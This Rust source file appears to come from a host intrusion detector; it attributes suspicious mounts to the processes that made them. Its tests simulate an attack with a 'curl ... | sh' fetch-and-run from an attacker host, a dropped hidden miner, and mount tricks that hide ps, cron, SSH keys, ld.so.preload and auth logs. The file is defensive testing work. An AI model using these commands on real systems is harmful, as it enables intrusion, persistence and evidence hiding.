//! Finds the process that mounted something over a place of the host. The mount table does not contain it.

use std::time::Duration;

use crate::{
    detect::WrittenFiles,
    model::{BootTime, Event, FileChange, Subject},
    process::{Command, Process, ProcessTable, Role, resolve},
};

/// Maximum time from the start of a mount command to the event. The mounts are read every 30 seconds, and a machine may be
/// busy.
const RECENT: Duration = Duration::from_secs(60);

/// Returns an event of a mount with the process that is responsible for it as its subject: the mount command that names the
/// place, else the process that wrote what is mounted. Returns `None` if neither is known, or if the host itself mounted it.
pub(super) fn attributed(
    event: &Event,
    change: &FileChange,
    table: &ProcessTable,
    written: &WrittenFiles,
) -> Option<Event> {
    let process = if let Some(command) = command(event.time, &change.path, table) {
        (!is_of_host(command, table)).then_some(command)?
    } else {
        let source = change.old_path.as_deref()?;
        table.get(written.at_or_below(source)?.writer)?
    };
    Some(Event { time: event.time, subject: Subject::of(&process.view), body: event.body.clone() })
}

/// Returns the mount command that named this place last.
fn command<'a>(now: BootTime, place: &str, table: &'a ProcessTable) -> Option<&'a Process> {
    let is_place = |process: &Process, operand: &str| {
        resolve(&process.view.directory, operand).trim_end_matches('/') == place
    };
    let names_place = |process: &&Process| {
        let command = Command::of(process);
        now.since(process.since) <= RECENT
            && command.is(&["mount", "systemd-mount"])
            && command.operands().any(|operand| is_place(process, operand))
    };
    table.iter().filter(names_place).max_by_key(|process| (process.since, process.key()))
}

/// Whether systemd or a container runtime started a mount command: for a unit, for a container.
fn is_of_host(process: &Process, table: &ProcessTable) -> bool {
    let parent = table.parent_of(process);
    parent.is_some_and(|parent| {
        matches!(parent.role, Role::Init | Role::ContainerRuntime | Role::PackageManager)
    })
}

#[cfg(test)]
mod tests {
    use crate::{
        model::{ProcessKey, Verdict},
        testing::{Host, alerts, seconds, story},
    };

    /// An intruder's script fetches a program, calls `mount`, and runs the program. Returns the signals of the last
    /// alert, and whether it is suspected at least.
    fn after(mount: impl FnOnce(&mut Host, ProcessKey, ProcessKey)) -> (Vec<String>, bool) {
        let mut host = Host::new();
        let init = host.boot("/usr/lib/systemd/systemd", &["systemd"]);
        let redis = host.spawn(init, "/usr/bin/redis-server", &["redis-server"]);
        let script = host.spawn(redis, "/usr/bin/dash", &["sh", "-c", "curl -s http://10.0.0.1:8000/i | sh"]);
        let curl = host.spawn(script, "/usr/bin/curl", &["curl", "-so", "/tmp/.m", "http://10.0.0.1:8000/m"]);
        host.connect(curl, "10.0.0.1:8000");
        host.create(curl, "/tmp/.m", 0o755);
        host.create(curl, "/tmp/.x/ps", 0o755);
        mount(&mut host, init, script);
        let miner = host.spawn(script, "/tmp/.m", &["/tmp/.m"]);
        host.connect(miner, "10.0.0.5:443");
        let alerts = alerts(&host);
        let last = alerts.last().expect("an alert about the dropped program");
        let ids = last.signals.iter().map(|signal| signal.id.0.to_string()).collect();
        (ids, last.verdict >= Verdict::Suspected)
    }

    fn command(host: &mut Host, parent: ProcessKey, arguments: &[&str]) {
        let mount = host.spawn(parent, "/usr/bin/mount", arguments);
        host.exit(mount);
        host.wait(seconds(25));
    }

    #[test]
    fn a_mount_belongs_to_the_command_that_names_the_place_or_to_the_writer_of_what_is_mounted() {
        for (arguments, source, place, id) in [
            (&["mount", "--bind", "/tmp/.x/ps", "/usr/bin/ps"][..], Some("/tmp/.x/ps"), "/usr/bin/ps", "B8T"),
            (&["mount", "-t", "tmpfs", "none", "/etc/cron.d/"], None, "/etc/cron.d", "B7"),
            (&["mount", "-o", "bind", "/opt/k", "/root/.ssh"], Some("/opt/k"), "/root/.ssh", "B7"),
            (
                &["mount", "--bind", "/opt/l", "/etc/ld.so.preload"],
                Some("/opt/l"),
                "/etc/ld.so.preload",
                "B6",
            ),
            (
                &["mount", "-B", "/dev/null", "/var/log/auth.log"],
                Some("/dev/null"),
                "/var/log/auth.log",
                "B8L",
            ),
        ] {
            let (ids, is_alerted) = after(|host, init, script| {
                command(host, script, arguments);
                host.mount(init, source, place);
            });
            assert!(ids.iter().any(|found| found == id) && is_alerted, "{arguments:?}: {ids:?}");
        }
        // A program that calls mount(2) itself.
        for source in ["/tmp/.x/ps", "/tmp/.x"] {
            let (ids, _) = after(|host, init, _| host.mount(init, Some(source), "/usr/bin/ps"));
            assert!(ids.iter().any(|id| id == "B8T"), "{source}: {ids:?}");
        }
    }

    #[test]
    fn mounts_of_the_host_and_of_nobody_known_count_for_nobody() {
        type Act = fn(&mut Host, ProcessKey, ProcessKey);
        let cases: [(&str, Act); 5] = [
            ("a unit", |host, init, _| {
                command(host, init, &["mount", "-t", "tmpfs", "none", "/etc/cron.d"]);
                host.mount(init, None, "/etc/cron.d");
            }),
            ("nobody", |host, init, _| host.mount(init, Some("/srv/ps"), "/usr/bin/ps")),
            ("another place", |host, init, script| {
                command(host, script, &["mount", "-t", "tmpfs", "none", "/mnt/x"]);
                host.mount(init, None, "/etc/cron.d");
            }),
            ("long ago", |host, init, script| {
                command(host, script, &["mount", "-t", "tmpfs", "none", "/etc/cron.d"]);
                host.wait(seconds(60));
                host.mount(init, None, "/etc/cron.d");
            }),
            ("only the words of another command", |host, init, script| {
                let cat = host.spawn(script, "/usr/bin/ls", &["ls", "/etc/cron.d"]);
                host.exit(cat);
                host.mount(init, None, "/etc/cron.d");
            }),
        ];
        for (name, act) in cases {
            let (ids, _) = after(act);
            assert!(!ids.iter().any(|id| ["B6", "B7", "B8T", "B8L"].contains(&&**id)), "{name}: {ids:?}");
        }
    }

    #[test]
    fn what_administrators_mount_alerts_nobody() {
        let mut host = Host::new();
        let init = host.boot("/usr/lib/systemd/systemd", &["systemd"]);
        let sshd = host.spawn(init, "/usr/sbin/sshd", &["sshd"]);
        let login = host.spawn(sshd, "/usr/bin/bash", &["-bash"]);
        for (arguments, place) in [
            (&["mount", "/home/me"][..], "/home/me"),
            (&["mount", "--bind", "/srv/config", "/home/me/.config"], "/home/me/.config"),
            (&["mount", "-t", "overlay", "-o", "lowerdir=/etc", "none", "/etc"], "/etc"),
            (&["mount", "--bind", "/srv/nginx", "/etc/nginx"], "/etc/nginx"),
            (&["mount", "--bind", "/srv/cron", "/etc/cron.d"], "/etc/cron.d"),
        ] {
            command(&mut host, login, arguments);
            host.mount(init, None, place);
        }
        let alerts = alerts(&host);
        assert!(alerts.iter().all(|alert| alert.verdict < Verdict::Suspected), "{}", story(&alerts));
    }
}
